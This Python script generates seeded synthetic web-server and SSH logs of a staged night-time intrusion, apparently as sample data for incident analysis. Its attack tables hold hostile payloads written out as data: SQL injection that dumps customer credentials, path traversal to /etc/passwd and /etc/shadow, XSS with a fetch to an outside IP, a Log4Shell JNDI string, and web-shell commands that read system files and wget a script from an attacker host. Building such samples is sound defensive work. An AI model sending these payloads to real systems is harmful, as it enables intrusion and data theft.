"""Write the sample incident again: `python -m app.sample.generate` (seeded; the committed files are its output)."""

import random
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path

ZONE = timezone(timedelta(hours=9))
START = datetime(2026, 11, 14, 0, 40, tzinfo=ZONE)
SEED = 20261114

Timed = tuple[datetime, str]

_BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0",
)
_SCANNER = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"
_SQLMAP = "sqlmap/1.9.4#stable (https://sqlmap.org)"
_CURL = "curl/8.9.1"
_BING = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
_MONITOR = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
_SITE = "https://shop.example"

_PAGES = (
    "/",
    "/products",
    "/products?page=2",
    "/cart",
    "/about",
    "/contact",
    "/search?q=teapot",
    "/search?q=%E6%80%A5%E9%A0%88",
)
_ASSETS = ("/static/shop.css", "/static/shop.js", "/static/logo.svg", "/favicon.ico")
_PROBES = (
    "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-config.php.bak", "/phpmyadmin/index.php",
    "/backup.zip", "/db.sql", "/.aws/credentials", "/server-status", "/actuator/env", "/admin.php", "/test.php",
    "/old/", "/.svn/entries", "/config.json", "/id_rsa", "/.htpasswd", "/cgi-bin/test.cgi", "/console/",
    "/manager/html", "/solr/admin/info/system", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/HNAP1/",
    "/owa/auth/logon.aspx", "/xmlrpc.php", "/info.php", "/dump.tar.gz", "/.DS_Store", "/web.config", "/jenkins/login",
    "/api/v1/pods",
)  # fmt: skip
_SQL = (
    ("/products?id=7%27", 500), ("/products?id=7%27--+-", 500), ("/products?id=7+AND+1%3D1--+-", 200),
    ("/products?id=7+AND+1%3D2--+-", 404), ("/products?id=7+ORDER+BY+5--+-", 200),
    ("/products?id=7+ORDER+BY+9--+-", 500), ("/products?id=-7+UNION+ALL+SELECT+NULL,NULL,NULL,NULL,NULL--+-", 200),
    ("/products?id=-7+UNION+ALL+SELECT+1,2,CONCAT(0x71,version(),0x71),4,5--+-", 200),
    ("/products?id=-7+UNION+ALL+SELECT+1,table_name,3,4,5+FROM+information_schema.tables--+-", 200),
    ("/products?id=-7+UNION+ALL+SELECT+1,CONCAT(email,0x3a,password),3,4,5+FROM+customers--+-", 200),
    ("/products?id=7%27+AND+SLEEP(5)--+-", 200), ("/products?id=7%27+OR+%271%27%3D%271", 500),
    ("/products?id=7)+AND+EXTRACTVALUE(1,CONCAT(0x7e,database()))--+-", 500),
    ("/products?id=7%3BSELECT+PG_SLEEP(5)--", 500),
)  # fmt: skip
_TRAVERSAL = (
    ("/download?file=../../../../etc/passwd", 400), ("/download?file=..%2f..%2f..%2fetc%2fpasswd", 400),
    ("/download?file=....//....//....//etc/shadow", 400), ("/static/..%252f..%252f..%252fetc/passwd", 404),
    ("/download?file=/proc/self/environ", 403),
    ("/download?file=php://filter/convert.base64-encode/resource=index.php", 400),
)  # fmt: skip
_XSS = (
    ("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200),
    ("/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", 200),
    ("/contact?name=%3Csvg/onload%3Dfetch(%27//203.0.113.140/c%27)%3E", 200),
)  # fmt: skip
_SHELL = (
    ("POST", "/admin/upload", 200, 312), ("GET", "/uploads/u7.php?cmd=id", 200, 54),
    ("GET", "/uploads/u7.php?cmd=cat+/etc/passwd", 200, 1873),
    ("GET", "/uploads/u7.php?cmd=wget+http://203.0.113.140/k.sh", 200, 0),
)  # fmt: skip


def access(when: datetime, ip: str, request: str, status: int, size: int, agent: str, referrer: str = "-") -> Timed:
    """One line of nginx's combined format."""
    stamp = when.strftime("%d/%b/%Y:%H:%M:%S %z")
    return when, f'{ip} - - [{stamp}] "{request} HTTP/1.1" {status} {size} "{referrer}" "{agent}"'


def _minutes(value: float) -> timedelta:
    return timedelta(seconds=round(value * 60))


def visitors(dice: random.Random) -> Iterator[Timed]:
    """Customers: a page, its assets, then further pages."""
    for number in range(34):
        ip = f"192.0.2.{10 + number * 5}" if number % 6 else f"2001:db8:51::{number + 16:x}"
        agent = dice.choice(_BROWSERS)
        when = START + _minutes(dice.uniform(0, 300))
        referrer = dice.choice(("-", "https://search.example/"))
        for _ in range(dice.randint(2, 5)):
            page = dice.choice(_PAGES)
            yield access(when, ip, f"GET {page}", 200, dice.randint(4_000, 22_000), agent, referrer)
            for asset in dice.sample(_ASSETS, dice.randint(0, 2)):
                when += timedelta(seconds=dice.randint(0, 1))
                yield access(when, ip, f"GET {asset}", dice.choice((200, 200, 304)), 1_834, agent, _SITE + page)
            referrer, when = _SITE + page, when + timedelta(seconds=dice.randint(5, 90))
    for minute, question in ((35, "union+square+select+tea"), (120, "drop+leaf+table"), (200, "o%27reilly+cups")):
        yield access(START + _minutes(minute), "192.0.2.77", f"GET /search?q={question}", 200, 6_120, _BROWSERS[0])


def machines(dice: random.Random) -> Iterator[Timed]:
    """A search engine and an uptime monitor: automatic and harmless."""
    for number in range(14):
        path = "/robots.txt" if number == 0 else f"/products?id={number}"
        yield access(START + _minutes(12 + number * 3.7), "198.51.100.140", f"GET {path}", 200, 5_210, _BING)
    for number in range(30):
        yield access(START + _minutes(number * 10), "198.51.100.200", "HEAD /", 200, 0, _MONITOR)
    yield access(START + _minutes(dice.uniform(60, 90)), "192.0.2.31", "GET /products?id=99", 404, 1_102, _BROWSERS[3])


def attacks(dice: random.Random) -> Iterator[Timed]:
    """The night's intruders, one after the other."""
    when = START + _minutes(62)
    for path in _PROBES:
        when += timedelta(seconds=dice.randint(0, 2))
        yield access(when, "203.0.113.45", f"GET {path}", 403 if path == "/server-status" else 404, 162, _SCANNER)
    when = START + _minutes(95)
    for path, status in _SQL:
        when += timedelta(seconds=dice.randint(2, 9))
        yield access(when, "198.51.100.23", f"GET {path}", status, dice.randint(900, 7_800), _SQLMAP)
    for path, status in _TRAVERSAL:
        when += timedelta(seconds=dice.randint(3, 20))
        yield access(when, "203.0.113.9", f"GET {path}", status, 154, _CURL)
    for path, status in _XSS:
        when += timedelta(seconds=dice.randint(10, 40))
        yield access(when, "203.0.113.61", f"GET {path}", status, 6_011, _BROWSERS[3])
    lookup = "${jndi:ldap://203.0.113.140:1389/a}"
    yield access(START + _minutes(150), "203.0.113.140", "GET /", 200, 8_120, lookup)
    yield access(START + _minutes(150.2), "203.0.113.140", f"GET /?x={lookup}", 200, 8_120, _CURL)
    yield from intruder(dice)


def intruder(dice: random.Random) -> Iterator[Timed]:
    """Passwords are guessed until one fits; then a web shell is planted and used."""
    when = START + _minutes(171)
    for _ in range(38):
        when += timedelta(seconds=dice.randint(1, 3))
        yield access(when, "198.51.100.77", "POST /login", 401, 421, _BROWSERS[0], _SITE + "/login")
    when += timedelta(seconds=2)
    yield access(when, "198.51.100.77", "POST /login", 302, 0, _BROWSERS[0], _SITE + "/login")
    for method, path, status, size in _SHELL:
        when += timedelta(seconds=dice.randint(20, 60))
        yield access(when, "198.51.100.77", f"{method} {path}", status, size, _BROWSERS[0])


def logins(dice: random.Random) -> Iterator[Timed]:
    """The authentication log of the same night: guessing over SSH, an administrator, a nightly job."""
    number = 2_100

    def line(when: datetime, program: str, message: str) -> Timed:
        return when, f"{when.isoformat(timespec='microseconds')} shop {program}: {message}"

    when = START + _minutes(20)
    for index in range(46):
        number, when = number + 2, when + timedelta(seconds=dice.randint(1, 4), microseconds=dice.randint(0, 999_999))
        user = dice.choice(("root", "root", "admin", "oracle", "test", "ubuntu"))
        known = "" if user == "root" else "invalid user "
        message = f"Failed password for {known}{user} from 203.0.113.88 port {40_000 + index * 7} ssh2"
        yield line(when, f"sshd[{number}]", message)
    admin = START + _minutes(281)
    yield line(
        admin,
        "sshd[2301]",
        "Accepted publickey for deploy from 192.0.2.10 port 52114 ssh2: ED25519 SHA256:f0rExampleOnly",
    )
    yield line(admin, "sshd[2301]", "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)")
    command = "deploy : TTY=pts/0 ; PWD=/srv/shop ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"
    yield line(admin + _minutes(2), "sudo", command)
    for hour in range(5):
        at = START + _minutes(20 + hour * 60)
        yield line(
            at, f"CRON[{2_000 + hour}]", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
        )
        yield line(at, f"CRON[{2_000 + hour}]", "pam_unix(cron:session): session closed for user root")


def files() -> dict[str, str]:
    """Contents by file name."""
    sources: dict[str, tuple[Callable[[random.Random], Iterator[Timed]], ...]] = {
        "access.log": (visitors, machines, attacks),
        "auth.log": (logins,),
    }
    dice = random.Random(SEED)  # noqa: S311 - a story, not a secret
    result = {}
    for name, parts in sources.items():
        lines = [timed for part in parts for timed in part(dice)]
        result[name] = "".join(text + "\n" for _, text in sorted(lines, key=lambda timed: timed[0]))
    return result


def main() -> None:
    """Write the files beside this module."""
    for name, content in files().items():
        Path(__file__).with_name(name).write_text(content, "utf-8")


if __name__ == "__main__":
    main()
